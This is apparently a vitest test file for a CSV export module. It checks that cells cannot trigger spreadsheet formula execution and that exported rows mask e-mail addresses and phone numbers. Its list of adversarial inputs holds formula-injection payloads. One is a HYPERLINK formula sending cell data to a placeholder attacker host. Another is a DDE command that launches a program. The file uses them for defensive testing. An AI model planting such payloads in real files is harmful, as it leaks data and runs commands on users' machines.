import '../fixtures/select.ts';
import { describe, expect, test } from 'vitest';
import { csvCell, csvLine } from '../../ops/export/cells.ts';
import { rowOf } from '../../ops/export/rows.ts';
import { deliveryId, tenantId } from '../../shared/contract/index.ts';
import type { LedgerRecord } from '../../shared/ledger/index.ts';

/** The cells of a line, as RFC 4180 has them, with another separator if a spreadsheet takes one. */
function cellsOf(line: string, separator = ','): readonly string[] {
  const cells: string[] = [''];
  let isQuoted = false;
  for (let at = 0; at < line.length; at += 1) {
    const sign = line.charAt(at);
    if (sign === '"' && isQuoted && line[at + 1] === '"') {
      cells[cells.length - 1] += '"';
      at += 1;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (sign === separator && !isQuoted) cells.push('');
    else cells[cells.length - 1] += sign;
  }
  return cells;
}

/** The cells that a careless program makes: it knows no quotes and takes any separator. */
const carelessly = (line: string) =>
  line.split(/[,;|\t\r\n]/).map((cell) => cell.replaceAll(/^[\s"\u00a0\ufeff\u200b]+/g, ''));
const RUNS = /^[=+\-@＝＋－＠]/;

const ADVERSARIES = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("https://attacker.example?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '"=1+1',
  '""=1+1',
  '＝1+1',
  '－1',
  'a;=1+1',
  'a,=1+1',
  'a, "=1+1',
  'a|=1+1',
  'a\t=1+1',
  'a\r\n=1+1',
  'a";=1+1;"',
  '","=1+1',
  "';=1+1",
];

describe('no cell of an export is run by a spreadsheet', () => {
  test.each(ADVERSARIES)('%j', (text) => {
    const line = csvLine(['first', text, 'last']);
    expect(line).not.toMatch(/\p{Cc}/u);
    const cells = cellsOf(line);
    expect(cells).toHaveLength(3);
    expect(cells[1]).not.toMatch(RUNS);
    expect(cells[1]?.trimStart()).not.toMatch(RUNS);
    for (const cell of carelessly(line)) expect(cell).not.toMatch(RUNS);
    for (const separator of [';', '|']) for (const cell of cellsOf(line, separator)) expect(cell).not.toMatch(RUNS);
  });

  test('what is harmless stays as it is', () => {
    for (const text of [
      'contact:70101',
      '3434170:70101::1795251419959',
      'a-b',
      'x=1',
      '2026-11-21T10:00:00.000Z',
      'Ünï "q"',
    ])
      expect(cellsOf(csvCell(text))).toEqual([text]);
    expect(csvCell(-1)).toBe('-1');
  });
});

const record: LedgerRecord = {
  ...{ delivery: deliveryId('crm-to-audience', 'contact-to-member'), tenant: tenantId('7'), state: 'dead' },
  ...{ eventId: 'order-ada@example.com', type: 'contact.creation', entity: 'contact:+49 30 1234567' },
  ...{ correlationId: 'c-1', messageId: 'm', receivedAt: '2026-11-21T10:00:00.000Z', attempts: [] },
  ...{ updatedAt: '2026-11-21T10:00:01.000Z', reason: 'mailchimp-invalid-resource', problems: ['email_address'] },
  remote: '0cbfbb95d00b8d8e',
};

test('an export holds no address, no telephone number and no record of the vendor, unless it is asked for', () => {
  const row = rowOf(record, false);
  expect(row).toMatchObject({ event: '[e-mail]', entity: 'contact:[phone]', reason: 'mailchimp-invalid-resource' });
  expect(row).not.toHaveProperty('remote');
  expect(rowOf(record, true)).toMatchObject({
    ...{ event: 'order-ada@example.com', entity: 'contact:+49 30 1234567', remote: '0cbfbb95d00b8d8e' },
  });
});
